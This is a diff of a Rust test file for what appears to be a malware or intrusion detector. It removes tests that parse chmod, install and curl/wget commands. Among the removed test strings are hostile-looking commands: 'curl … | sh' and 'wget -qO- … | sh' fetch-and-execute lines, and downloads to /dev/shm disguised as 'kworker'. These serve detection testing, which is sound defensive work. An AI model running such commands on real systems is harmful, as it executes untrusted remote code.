@@ -12,10 +12,6 @@ use crate::detectors::{Detector, Findings};
 use crate::event::{NetworkActivity, Position, Provenance};
 use crate::finding::{Finding, Severity};
 
-fn words(s: &[&str]) -> Vec<String> {
-    s.iter().map(|w| w.to_string()).collect()
-}
-
 fn t(secs: i64) -> DateTime<Utc> {
     Utc.timestamp_opt(1_795_838_965 + secs, 0).unwrap()
 }
@@ -62,76 +58,6 @@ fn has(f: &Finding, name: &str) -> bool {
 // ---------------------------------------------------------------------------------
 // command syntax
 // ---------------------------------------------------------------------------------
-
-#[test]
-fn chmod_modes_and_operands() {
-    for m in [
-        "+x",
-        "u+x",
-        "a+rx",
-        "755",
-        "0755",
-        "0700",
-        "u=rwx,go=rx",
-        "ug+rwX",
-        "+rwxs",
-    ] {
-        assert!(mode_grants_exec(m), "{m}");
-    }
-    for m in ["644", "-x", "a-x", "u=rw", "go-w", "0600", "", "+r", "x"] {
-        assert!(!mode_grants_exec(m), "{m}");
-    }
-    assert_eq!(
-        chmod_targets(&words(&["chmod", "+x", "/tmp/a", "b"])),
-        ["/tmp/a", "b"]
-    );
-    assert_eq!(chmod_targets(&words(&["chmod", "-R", "755", "d"])), ["d"]);
-    assert_eq!(chmod_targets(&words(&["chmod", "--", "+x", "f"])), ["f"]);
-    assert!(chmod_targets(&words(&["chmod", "-x", "f"])).is_empty());
-    assert!(chmod_targets(&words(&["chmod", "644", "f"])).is_empty());
-    assert!(chmod_targets(&words(&["chmod", "--reference=/bin/ls", "f"])).is_empty());
-}
-
-#[test]
-fn install_destinations() {
-    assert_eq!(
-        install_targets(&words(&["install", "-m", "755", "a", "/tmp/b"])),
-        ["/tmp/b", "/tmp/b/a"]
-    );
-    assert_eq!(
-        install_targets(&words(&["install", "-t", "/tmp/d", "x", "y"])),
-        ["/tmp/d/x", "/tmp/d/y"]
-    );
-    assert!(install_targets(&words(&["install", "-m644", "a", "/tmp/b"])).is_empty());
-    assert!(install_targets(&words(&["install", "-d", "/tmp/dir"])).is_empty());
-}
-
-#[test]
-fn download_outputs() {
-    let rules: CommandRules = Rules::embedded().section("commands").unwrap();
-    let outputs = |text: &str| -> Vec<String> {
-        command::from_shell_text(text, &rules)
-            .iter()
-            .filter(|i| matches!(i.program(), "curl" | "wget"))
-            .flat_map(download_targets)
-            .collect()
-    };
-    assert_eq!(outputs("curl -sSLo /tmp/x http://e/a"), ["/tmp/x"]);
-    assert_eq!(outputs("curl -o/tmp/x http://e/a"), ["/tmp/x"]);
-    assert_eq!(outputs("curl --output /tmp/x http://e/a"), ["/tmp/x"]);
-    assert_eq!(outputs("curl -O http://e/p/agent?x=1"), ["agent"]);
-    assert_eq!(outputs("curl -s http://e/a > /tmp/y"), ["/tmp/y"]);
-    assert_eq!(outputs("wget -q http://e/dl/kworker"), ["kworker"]);
-    assert_eq!(outputs("wget -O /dev/shm/k http://e/a"), ["/dev/shm/k"]);
-    assert_eq!(
-        outputs("wget --output-document=/tmp/k http://e/a"),
-        ["/tmp/k"]
-    );
-    assert_eq!(outputs("wget -P /var/tmp http://e/a.sh"), ["/var/tmp/a.sh"]);
-    assert!(outputs("curl -s http://e/a | sh").is_empty());
-    assert!(outputs("wget -qO- http://e/a | sh").is_empty());
-    assert!(outputs("curl http://e/").is_empty());
-}
 
 // ---------------------------------------------------------------------------------
 // the indicators
